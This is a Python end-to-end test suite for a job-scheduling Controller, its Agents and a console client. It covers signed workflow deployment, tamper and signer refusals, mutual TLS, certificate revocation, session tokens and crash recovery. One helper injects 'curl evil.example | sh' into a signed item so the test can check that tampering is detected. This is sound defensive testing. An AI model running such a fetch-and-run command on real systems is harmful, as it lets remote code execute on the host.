"""End to end over real HTTPS on loopback: a Controller and two Agents as subprocesses, the
console's typed client, signed items, orders running real shell jobs.

One estate serves the module (starting processes is the slow part); tests that kill servers
build their own.
"""

from __future__ import annotations

import json
import signal
import ssl
from collections.abc import Iterator
from pathlib import Path

import pytest

from js7tui.client import ControllerClient, ControllerRefused, ControllerUnreachable
from js7tui.console import Console
from js7tui.demo import start_child, stop_child
from js7tui.engine.auth import hash_sha512
from js7tui.engine.shapes import SESSION_HEADER, update_items_body
from js7tui.identity.sessions import Session
from js7tui.pki.issuing import IssueRequest
from js7tui.pki.material import ClientMaterial, client_material
from js7tui.pki.profiles import Purpose
from js7tui.signing import SignedItem, sign_item
from tests.estate import (
    CONSOLE_PASSWORD,
    CONTROLLER_PASSWORD,
    Estate,
    material,
    new_console,
    process_alive,
    running_estate,
    wait_attached,
    wait_for,
    wait_order,
    workflow,
)

pytestmark = pytest.mark.slow


@pytest.fixture(scope="module")
def estate(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Estate]:
    with running_estate(tmp_path_factory.mktemp("estate"), ["agent-1", "agent-2"]) as estate:
        yield estate


@pytest.fixture(scope="module")
def foreign(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Console, Session]]:
    """Another console with its own CA: an outsider's certificates."""
    console, admin = new_console(tmp_path_factory.mktemp("foreign") / "home")
    yield console, admin
    console.close()


@pytest.fixture
def ctl(estate: Estate) -> Iterator[ControllerClient]:
    with estate.client() as client:
        yield client


def resource(path: str, value: str, version: str = "r1") -> dict[str, object]:
    return {"TYPE": "JobResource", "path": path, "versionId": version,
            "variables": {"greeting": f"'{value}'"}, "env": {"GREETING": "$greeting"}}


# -- deploy and run ------------------------------------------------------------------------
def test_deploy_run_order_and_read_output(estate: Estate, ctl: ControllerClient) -> None:
    wf = workflow("report", {
        "extract": ("agent-1", 'echo "$GREETING $WHO from $(pwd)"; echo warn >&2'),
        "load": ("agent-2", "#!/bin/sh\necho \"loaded $JS7_ORDER_ID at $JS7_WORKFLOW_POSITION\""),
    }, executable={"env": {"WHO": "$who"}}, jobResourcePaths=["texts"],
        defaultArguments={"who": "'nobody'"}, workingDirectory="reports")
    results = ctl.deploy([estate.sign(resource("texts", "hello")), estate.sign(wf)])
    assert {(r["path"], r["outcome"]) for r in results} == {("texts", "added"),
                                                            ("report", "added")}
    wait_attached(ctl, "report")
    ctl.add_order("report-1", "report", {"who": "world"})
    order = wait_order(ctl, "report-1")
    assert order.state == "finished", order
    extract, load = order.steps
    assert extract.stdout == (
        f"hello world from {estate.dir('agent-1') / 'work' / 'reports'}\n")
    assert extract.stderr == "warn\n" and extract.return_code == 0
    assert load.agent == "agent-2" and load.stdout == "loaded report-1 at 1\n"
    # defaults apply when the order has no such argument
    ctl.add_order("report-2", "report")
    assert wait_order(ctl, "report-2").steps[0].stdout.startswith("hello nobody")


def test_items_go_only_to_the_agents_whose_jobs_run_there(estate: Estate,
                                                          ctl: ControllerClient) -> None:
    ctl.deploy([estate.sign(workflow("only-one", {"j": ("agent-1", "true")}))])
    wait_attached(ctl, "only-one")
    item = next(i for i in ctl.items() if i.path == "only-one")
    assert {name: a.state for name, a in item.agents.items()} == {"agent-1": "attached"}
    with estate.as_controller("agent-1") as one, estate.as_controller("agent-2") as two:
        assert "only-one" in {i["path"] for i in one.call("GET", "/api/item")["items"]}
        assert "only-one" not in {i["path"] for i in two.call("GET", "/api/item")["items"]}


def test_change_and_delete_reach_the_agent(estate: Estate, ctl: ControllerClient) -> None:
    flow = workflow("greet", {"j": ("agent-1", 'echo "$GREETING"')}, jobResourcePaths=["words"])
    ctl.deploy([estate.sign(resource("words", "hi")), estate.sign(flow)])
    wait_attached(ctl, "greet")
    ctl.add_order("greet-1", "greet")
    assert wait_order(ctl, "greet-1").steps[0].stdout == "hi\n"
    changed = ctl.deploy([estate.sign(resource("words", "moin", "r2"))])
    assert changed[0]["outcome"] == "changed" and changed[0]["revision"] == 2
    wait_attached(ctl, "words")
    ctl.add_order("greet-2", "greet")
    assert wait_order(ctl, "greet-2").steps[0].stdout == "moin\n"
    again = ctl.deploy([estate.sign(resource("words", "moin", "r2"))])
    assert again[0]["outcome"] == "unchanged"

    with pytest.raises(ControllerRefused) as refused:  # still used by 'greet'
        ctl.deploy(delete=[("JobResource", "words")])
    assert refused.value.code == "ItemInUse"
    ctl.deploy(delete=[("Workflow", "greet"), ("JobResource", "words")])
    assert not {"greet", "words"} & {i.path for i in ctl.items()}
    with estate.as_controller("agent-1") as agent:
        wait_for(lambda: not {"greet", "words"} & {
            i["path"] for i in agent.call("GET", "/api/item")["items"]}, "detached on agent-1")


# -- refusals of signed items ----------------------------------------------------------------
def _tamper(item: SignedItem) -> SignedItem:
    return SignedItem(item.string.replace("true", "curl evil.example | sh"), item.signature)


def test_tampered_item_is_refused_by_the_controller_and_nothing_applies(
        estate: Estate, ctl: ControllerClient) -> None:
    good = estate.sign(workflow("innocent", {"j": ("agent-1", "true")}))
    bad = _tamper(estate.sign(workflow("tampered", {"j": ("agent-1", "true")})))
    with pytest.raises(ControllerRefused) as refused:
        ctl.deploy([good, bad])
    assert refused.value.code == "TamperedWithSignedMessage"
    assert "operation 2" in str(refused.value)
    assert "does not match its signature" in str(refused.value)
    assert not {"innocent", "tampered"} & {i.path for i in ctl.items()}
    assert "refused UpdateItems from console" in estate.log("controller-1")


def test_refusal_reasons_name_the_cause(estate: Estate, ctl: ControllerClient,
                                        foreign: tuple[Console, Session]) -> None:
    doc = workflow("refused", {"j": ("agent-1", "true")})
    outsider = foreign[0].certificates.issue(
        foreign[1], IssueRequest(Purpose.SIGNING, "intruder"), hold_key=True)
    cases = {
        "MessageSignedByUnknown": estate.sign(doc, outsider),
        "CertificateExpired": estate.sign(doc, estate.expired_signer),
        "UnknownSignatureAlgorithm": SignedItem(estate.sign(doc).string, {
            **estate.sign(doc).signature, "algorithm": "MD5withRSA"}),
    }
    for code, item in cases.items():
        with pytest.raises(ControllerRefused) as refused:
            ctl.deploy([item])
        assert refused.value.code == code, refused.value
    bad_agent = workflow("nowhere", {"j": ("agent-9", "true")})
    with pytest.raises(ControllerRefused, match="agent-9, unknown to this Controller"):
        ctl.deploy([estate.sign(bad_agent)])


def test_tampered_item_sent_straight_to_an_agent_is_refused_there(
        estate: Estate, foreign: tuple[Console, Session]) -> None:
    doc = workflow("sneaky", {"j": ("agent-1", "true")})
    outsider = foreign[0].certificates.issue(
        foreign[1], IssueRequest(Purpose.SIGNING, "x"), hold_key=True)
    with estate.as_controller("agent-1") as agent:
        for item, code in ((_tamper(estate.sign(doc)), "TamperedWithSignedMessage"),
                           (estate.sign(doc, outsider), "MessageSignedByUnknown")):
            with pytest.raises(ControllerRefused) as refused:
                agent.call("POST", "/api/item", json=update_items_body([item.to_wire()]))
            assert refused.value.code == code
        assert "sneaky" not in {i["path"] for i in agent.call("GET", "/api/item")["items"]}
    assert "refused UpdateItems from controller" in estate.log("agent-1")


def test_the_agent_verifies_with_its_own_trust_anchors(estate: Estate,
                                                       ctl: ControllerClient) -> None:
    """The Controller trusts the signer, agent-2 does not (any more): the Agent refuses, the
    order fails naming why, and no script runs there."""
    keys = estate.dir("agent-2") / "trusted-x509-keys"
    saved = {p.name: p.read_bytes() for p in keys.iterdir()}
    for path in keys.iterdir():
        path.unlink()
    try:
        flow = workflow("distrusted", {"j": ("agent-2", "echo must-not-run")})
        assert ctl.deploy([estate.sign(flow)])[0]["outcome"] == "added"
        wait_for(lambda: next(i for i in ctl.items() if i.path == "distrusted")
                 .agents["agent-2"].state == "refused", "agent-2 to refuse")
        item = next(i for i in ctl.items() if i.path == "distrusted")
        assert "MessageSignedByUnknown" in item.agents["agent-2"].message
        ctl.add_order("distrusted-1", "distrusted")
        order = wait_order(ctl, "distrusted-1")
        assert order.state == "failed"
        assert "refused" in order.message and "unknown key" in order.message
        assert order.steps[0].stdout == ""
    finally:
        for name, data in saved.items():
            (keys / name).write_bytes(data)


# -- orders ------------------------------------------------------------------------------------
def test_non_zero_return_code_fails_the_order(estate: Estate,
                                              ctl: ControllerClient) -> None:
    flow = workflow("fails", {"first": ("agent-1", "echo trying; exit 3"),
                              "never": ("agent-2", "echo must-not-run")})
    ctl.deploy([estate.sign(flow)])
    ctl.add_order("fails-1", "fails")
    order = wait_order(ctl, "fails-1")
    assert order.state == "failed"
    assert order.message == "job 'first' on Agent 'agent-1' failed: return code 3"
    assert [s.job_name for s in order.steps] == ["first"]
    assert order.steps[0].return_code == 3 and order.steps[0].stdout == "trying\n"


def test_cancel_terminates_the_running_process(estate: Estate,
                                               ctl: ControllerClient) -> None:
    flow = workflow("long", {"sleep": ("agent-1", "echo started; sleep 60; echo late")})
    ctl.deploy([estate.sign(flow)])
    ctl.add_order("long-1", "long")
    step = wait_for(lambda: (s := ctl.order("long-1").steps[0]).pid and s, "job to run")
    assert process_alive(step.pid)
    assert ctl.cancel_orders(["long-1"]) == [{"orderId": "long-1", "state": "cancelling"}]
    order = wait_order(ctl, "long-1")
    assert order.state == "cancelled"
    assert order.steps[0].state == "killed" and order.steps[0].stdout == "started\n"
    wait_for(lambda: not process_alive(step.pid), "the job process to end", 5)
    with pytest.raises(ControllerRefused, match="has ended already"):
        ctl.cancel_orders(["long-1"])


def test_timeout_ends_the_job(estate: Estate, ctl: ControllerClient) -> None:
    ctl.deploy([estate.sign(workflow("slow", {"s": ("agent-2", "sleep 30")}, timeout=1))])
    ctl.add_order("slow-1", "slow")
    order = wait_order(ctl, "slow-1")
    assert order.state == "failed" and "timed out after 1 s" in order.message


def test_orders_are_checked(estate: Estate, ctl: ControllerClient) -> None:
    ctl.deploy([estate.sign(workflow("checked", {"j": ("agent-1", "true")}))])
    with pytest.raises(ControllerRefused, match="not deployed"):
        ctl.add_order("x-1", "no-such-workflow")
    with pytest.raises(ControllerRefused, match="not valid"):
        ctl.add_order("bad id/with slash", "checked")
    ctl.add_order("checked-1", "checked")
    with pytest.raises(ControllerRefused) as refused:
        ctl.add_order("checked-1", "checked")
    assert refused.value.code == "DuplicateOrder"


# -- transport security ------------------------------------------------------------------------
def _ours(estate: Estate, tls: ClientMaterial) -> ClientMaterial:
    """Present ``tls``'s certificate, trust our CA for the server's."""
    ours = client_material(estate.console.store.conn)
    return ClientMaterial(tls.cert_chain_pem, tls.key_pem, ours.ca_pem, ours.crl_pem)


def test_clients_without_a_trusted_valid_certificate_fail_the_handshake(
        estate: Estate, foreign: tuple[Console, Session]) -> None:
    ours = client_material(estate.console.store.conn)
    outsider = _ours(estate, client_material(foreign[0].store.conn))  # another CA's console
    cases = (("no certificate", ClientMaterial(b"", b"", ours.ca_pem)),
             ("foreign CA", outsider),
             ("expired", _ours(estate, material(estate.expired_console))))
    for label, tls in cases:
        if not tls.cert_chain_pem:
            context = ssl.create_default_context(cadata=ours.ca_pem.decode())
            client = ControllerClient(estate.servers["controller-1"].url, "console",
                                      CONSOLE_PASSWORD, ssl_context=context, timeout=5)
        else:
            client = estate.client(tls=tls, timeout=5)
        with client, pytest.raises(ControllerUnreachable):
            client.login()
            pytest.fail(f"{label} was accepted")


def test_unknown_distinguished_name_gets_403_and_is_logged(estate: Estate) -> None:
    stranger = estate.issue(Purpose.CONSOLE, "stranger")
    with estate.client(tls=material(stranger)) as client, pytest.raises(
            ControllerRefused) as refused:
        client.login()
    dn = stranger.cert.subject.rfc4514_string()
    assert refused.value.status == 403
    assert str(refused.value) == f"unknown distinguished name '{dn}'"
    assert f"unknown distinguished name '{dn}'" in estate.log("controller-1")


def test_revoked_certificate_is_refused_after_the_crl_changes_without_restart(
        estate: Estate) -> None:
    second = estate.issue(Purpose.CONSOLE, "console")  # same DN, another certificate
    with estate.client(tls=material(second)) as client:
        client.login()  # accepted before the revocation
    pid = estate.servers["controller-1"].process.pid
    estate.console.certificates.revoke(estate.admin, second.record.serial or "")
    crl = estate.console.certificates.export_crl(estate.admin)
    target = estate.dir("controller-1") / "tls" / "crl.pem"
    target.with_suffix(".new").write_text(crl.crl_pem)
    target.with_suffix(".new").replace(target)  # as the CA helper's import would, atomically
    with estate.client(tls=material(second)) as client, pytest.raises(ControllerUnreachable):
        client.login()
    with estate.client() as client:  # the console's other certificate still works
        client.health()
    assert estate.servers["controller-1"].process.pid == pid  # no restart
    assert "reloaded certificate, CA and CRL" in estate.log("controller-1")


# -- per-hop sessions --------------------------------------------------------------------------
def test_a_token_is_good_for_its_own_hop_only(estate: Estate,
                                              ctl: ControllerClient) -> None:
    token = ctl.login()
    with estate.as_controller("agent-1") as agent:
        response = agent._http.get("/api/item", headers={SESSION_HEADER: token})
        assert response.status_code == 401
        assert response.json()["code"] == "InvalidSessionToken"
        agent_token = agent.login()
    response = ctl._http.get("/api/item", headers={SESSION_HEADER: agent_token})
    assert response.status_code == 401


def test_logout_invalidates_and_wrong_credentials_fail(estate: Estate) -> None:
    with estate.client() as client:
        token = client.login()
        assert client._http.get("/api", headers={SESSION_HEADER: token}).status_code == 200
        client.logout()
        response = client._http.get("/api", headers={SESSION_HEADER: token})
        assert response.status_code == 401
        assert client._http.get("/api").json()["code"] == "MissingSessionToken"
    for user, password in (("console", "wrong"), ("nobody", "x"),
                           ("controller", CONTROLLER_PASSWORD)):
        with estate.client(user=user, password=password) as client, pytest.raises(
                ControllerRefused, match="Login: unknown user or invalid password"):
            client.login()
    assert "login refused for 'console'" in estate.log("controller-1")
    assert "O=js7tui): wrong password" in estate.log("controller-1")


# -- durability --------------------------------------------------------------------------------
def test_controller_killed_after_acknowledging_keeps_everything(tmp_path: Path) -> None:
    with running_estate(tmp_path) as estate:
        with estate.client() as ctl:
            ctl.deploy([estate.sign(workflow("durable", {
                "j": ("agent-1", "sleep 1; echo survived")}))])
            ctl.add_order("durable-1", "durable")
            wait_for(lambda: ctl.order("durable-1").steps[0].pid, "the job to start")
        assert estate.stop("controller-1", signal.SIGKILL) == -signal.SIGKILL
        estate.start("controller", "controller-1")
        with estate.client() as ctl:
            item = next(i for i in ctl.items() if i.path == "durable")
            assert item.version_id == "v1" and item.revision == 1
            order = wait_order(ctl, "durable-1")  # its result is polled after restart
            assert order.state == "finished" and order.steps[0].stdout == "survived\n"


def test_agent_killed_while_a_job_runs(tmp_path: Path) -> None:
    with running_estate(tmp_path) as estate:
        estate.pin_port("agent-1")
        with estate.client() as ctl:
            ctl.deploy([estate.sign(workflow("orphan", {"j": (
                "agent-1", "echo printed before the crash; echo on stderr >&2; sleep 60")}))])
            ctl.add_order("orphan-1", "orphan")
            pid = wait_for(lambda: ctl.order("orphan-1").steps[0].pid, "the job to start")
            wait_for(lambda: ctl.order_output("orphan-1", 0).stderr, "the job's output")
            estate.stop("agent-1", signal.SIGKILL)
            assert process_alive(pid)  # the job outlives a killed Agent...
            estate.start("agent", "agent-1")  # same port (pinned): the Controller's config
            order = wait_order(ctl, "orphan-1")
            assert order.state == "failed"
            assert "the Agent restarted while this task ran" in order.message
            # ... and what it printed before the crash was on disk, not only in memory
            assert order.steps[0].stdout == "printed before the crash\n"
            assert order.steps[0].stderr == "on stderr\n"
            wait_for(lambda: not process_alive(pid), "the orphan to be stopped", 5)
        state = estate.dir("agent-1") / "state"
        assert not list((state / "output").iterdir()) and not list((state / "scripts").iterdir())


def test_insecure_http_warns_at_every_start(tmp_path: Path) -> None:
    directory = tmp_path / "agent-1"
    (directory / "trusted-x509-keys").mkdir(parents=True)
    (directory / "config.toml").write_text(
        '[server]\nname = "agent-1"\nlisten = "127.0.0.1:0"\n\n'
        f'[users.controller]\npassword_hash = "{hash_sha512(CONTROLLER_PASSWORD)}"\n')
    for _ in range(2):
        child = start_child("agent", directory, options=("--insecure-http",))
        assert child.url.startswith("http://")
        stop_child(child)
    log = (directory / "logs" / "server.log").read_text()
    assert log.count("INSECURE: plain HTTP") == 2


def test_signed_items_keep_their_exact_bytes_on_the_way(estate: Estate,
                                                        ctl: ControllerClient) -> None:
    text = json.dumps(workflow("bytes", {"j": ("agent-1", "echo é")}), indent=3)
    item = sign_item(text, estate.signer.key, certificate=estate.signer.cert,
                     chain=estate.signer.chain[1:2])
    ctl.deploy([item])
    assert ctl.signed_item("Workflow", "bytes").string == text


def test_the_console_connects_through_its_registry(estate: Estate) -> None:
    """Registered with a sealed hop password, reached with the console's own certificate."""
    controller = estate.servers["controller-1"]
    estate.console.controllers.register(estate.admin, "controller-1", controller.url,
                                        "console", CONSOLE_PASSWORD)
    with estate.console.controllers.connect(estate.admin, "controller-1") as client:
        health = client.health()
    assert health["id"] == "controller-1"
    assert {a["name"] for a in health["agents"]} == {"agent-1", "agent-2"}


def test_state_files_and_the_work_dir_are_private(estate: Estate, ctl: ControllerClient) -> None:
    """STATE/server.json is 0600 like every state file; the Agent makes its work dir 0700
    (doctor warns about anything wider)."""
    for name in ("controller-1", "agent-1"):
        mode = (estate.dir(name) / "state" / "server.json").stat().st_mode & 0o777
        assert mode == 0o600, (name, oct(mode))
    ctl.deploy([estate.sign(workflow("private-work", {"j": ("agent-1", "true")}))])
    wait_attached(ctl, "private-work")
    ctl.add_order("private-work-1", "private-work")
    assert wait_order(ctl, "private-work-1").state == "finished"
    work = estate.dir("agent-1") / "work"
    assert work.is_dir() and work.stat().st_mode & 0o777 == 0o700, oct(work.stat().st_mode)
